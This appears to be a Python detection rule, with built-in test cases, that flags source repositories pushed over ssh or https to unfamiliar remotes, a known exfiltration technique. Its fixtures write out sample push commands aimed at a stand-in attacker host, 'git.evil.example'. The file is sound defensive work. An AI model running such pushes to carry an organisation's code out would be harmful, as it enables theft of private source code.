"""A repository is pushed to where the operator knows nothing and this person did not push before."""

from __future__ import annotations

from collections.abc import Iterable

from evidence.kind import Actor, Endpoint
from evidence.kinds.connection import Close, Report
from evidence.kinds.login import SessionOpen
from evidence.kinds.process import Exec

from ..alert import Severity
from ..measures.outflow import FORGET, NEW, SECOND, Outflow, Work, is_new, moved, signs_before
from ..measures.session_work import command, leaving, sender
from ..record import Record
from ..rule import Connections, Correlation, Finding, Parameter, Site, Step, Story

_BYTES = Parameter("bytes", 50_000, "bytes of packs", "what a fetch or an empty push says is less")
_LARGE = Parameter("large", 20_000_000, "bytes of packs", "that is a whole history, not a contribution: high")
_WINDOW = Parameter("window", 3600, "seconds", "a push and its packs are within an hour")
_HELPERS = frozenset({"git", "git-remote-https", "git-remote-http", "git-remote-ftp", "git-remote-ftps"})
_SSH = frozenset({"ssh", "plink", "dbclient"})
_SENDERS = _HELPERS | _SSH
_RECEIVE = "receive-pack"
_GIT = frozenset({"git", "git-lfs", "hub", "gh"})


def _step(state: Outflow, record: Record, site: Site) -> Iterable[Finding]:
    body, person = record.event.body, record.person
    if person is None or person.is_scheduled or site.known.is_service_account(person.name):
        return ()
    if isinstance(body, Exec):
        if not _is_push(body):
            return ()
        words = f"ran {' '.join(body.argv)[:200]}"
        work = state.sign(record, words, 2 * int(site.number(_ID, _WINDOW)) * SECOND)
        return _judged(state, work, record, site, list(work.volumes))
    flow = leaving(record, site, _SENDERS)
    if flow is None or not _is_git(flow):
        return ()
    work, _volume, _grown = state.count(record, flow, "with git")
    return _judged(state, work, record, site, [flow.remote.ip])


def _is_push(body: Exec) -> bool:
    return any(word in ("push", "send-pack") for word in body.argv[1:])


def _is_git(flow: Close | Report) -> bool:
    name = sender(flow)
    return name in _HELPERS or (name in _SSH and _RECEIVE in command(flow))


def _judged(
    state: Outflow, work: Work, record: Record, site: Site, addresses: list[str]
) -> Iterable[Finding]:
    """Of https, pushes and fetches look alike: a push must have been run."""
    for address in addresses:
        volume = work.volumes[address]
        if volume.out < site.number(_ID, _BYTES) or not is_new(_ID, state, record, volume, site):
            continue
        signs = signs_before(work, volume, site.number(_ID, _WINDOW))
        if signs:
            severity: Severity | None = "high" if volume.out >= site.number(_ID, _LARGE) else None
            others = state.others(record, volume)
            yield moved(record, address, volume, signs=signs, severity=severity, others=others)


def _programs(_site: Site) -> frozenset[str]:
    return _GIT


def _connections(_site: Site) -> Connections:
    return Connections("out", unknown=True, programs=_SENDERS)


_ID = "git-push-foreign"
_TO = Endpoint(ip="203.0.113.9", port=22, name="git.evil.example")
_DAY = 86_400.0


def _helper(exe: str, command_line: str) -> Actor:
    """Return a program that git runs to speak to a remote."""
    return Actor(pid=51, exe=exe, cmd_line=command_line, uid=1000, auid=1000, session=7)


_HTTPS = _helper("/usr/lib/git-core/git-remote-https", "git-remote-https y https://git.evil.example/r.git")
_OVER_SSH = _helper("/usr/bin/ssh", "/usr/bin/ssh git@git.evil.example git-receive-pack '/r.git'")
_FETCH = _helper("/usr/bin/ssh", "/usr/bin/ssh git@git.evil.example git-upload-pack '/r.git'")
_CRON = SessionOpen(program="cron", user="mirror", auid=1000, session=7, pid=40)


def _git(*argv: str) -> Exec:
    return Exec(pid=50, exe="/usr/bin/git", argv=("git", *argv), uid=1000, auid=1000, session=7)


def _sent(count: int, actor: Actor = _HTTPS, to: Endpoint = _TO, flow: int = 1) -> Close:
    return Close(
        flow=flow,
        protocol="tcp",
        direction="out",
        local=Endpoint(ip="10.0.0.5", port=50_000),
        remote=to,
        bytes_out=count,
        actor=actor,
    )


CORRELATION = Correlation(
    id=_ID,
    version=1,
    title="Repository pushed to a foreign remote",
    severity="medium",
    attack=("T1567.001",),
    kinds=(Exec, Close, Report),
    state=Outflow,
    step=_step,
    parameters=(_BYTES, _LARGE, NEW, FORGET, _WINDOW),
    programs=_programs,
    connections=_connections,
    hits=(
        Story("over ssh", (Step(0, _git("push", "y", "--all")), Step(5, _sent(4_000_000, _OVER_SSH)))),
        Story("over https", (Step(0, _git("-C", "/srv/repo", "push", "y")), Step(5, _sent(4_000_000)))),
        Story("the connection is told first", (Step(5, _sent(4_000_000)), Step(0, _git("push", "y")))),
        Story(
            "by the plumbing, which no alias hides",
            (Step(0, _git("send-pack", "--stateless-rpc", "https://x")), Step(5, _sent(900_000))),
        ),
    ),
    misses=(
        Story(
            "to the organisation's own host",
            (Step(0, _git("push")), Step(5, _sent(4_000_000, to=Endpoint(ip="192.0.2.10")))),
        ),
        Story("a clone", (Step(0, _git("clone", "https://x")), Step(5, _sent(90_000)))),
        Story(
            "a fetch over ssh after a push elsewhere", (Step(0, _git("push")), Step(5, _sent(90_000, _FETCH)))
        ),
        Story("nothing new to push", (Step(0, _git("push")), Step(5, _sent(3000, _OVER_SSH)))),
        Story(
            "where this person pushes each week",
            (
                Step(0, _git("push")),
                Step(5, _sent(9000)),
                Step(7 * _DAY, _git("push")),
                Step(7 * _DAY + 5, _sent(4_000_000, flow=2)),
            ),
        ),
        Story(
            "a mirror by a timer",
            (Step(0, _CRON), Step(1, _git("push", "--mirror")), Step(5, _sent(4_000_000))),
        ),
    ),
)
